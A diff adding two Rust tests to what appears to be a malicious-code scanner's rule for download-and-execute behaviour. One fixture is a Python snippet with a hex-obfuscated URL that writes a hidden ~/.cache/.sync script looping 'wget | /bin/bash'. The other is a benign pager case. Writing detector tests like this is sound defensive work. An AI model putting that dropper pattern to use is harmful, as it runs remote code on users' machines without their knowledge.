@@ -443,3 +443,31 @@ while True:
     assert!(!rules(&a).contains(&"MB913"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::High, "{:?}", a.findings);
 }
+
+/// A loop script split over a plain shebang literal and an f-string,
+/// piping a download into `/bin/sh` by path, is download and execute
+/// (ec76111: LOW).
+#[test]
+fn split_template_piping_into_a_shell_by_path() {
+    let split = r##"from pathlib import Path
+SRC = bytes.fromhex("68747470733a2f2f6578616d706c652e6f72672f72").decode()
+hook = Path.home() / ".cache" / ".sync"
+hook.write_text("#!/bin/bash\n" f"for i in 1 2 3; do wget -qO- {SRC} | /bin/bash; done\n")
+"##;
+    let a = run(split);
+    assert!(rules(&a).contains(&"MB908"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same split template piping a local file into a pager runs no
+/// download.
+#[test]
+fn split_template_paging_a_local_file_is_no_download() {
+    let pager = r##"from pathlib import Path
+LOG = "/var/log/app.log"
+hook = Path.home() / ".cache" / "show"
+hook.write_text("#!/bin/bash\n" f"tail -n 50 {LOG} | less\n")
+"##;
+    let a = run(pager);
+    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
+}
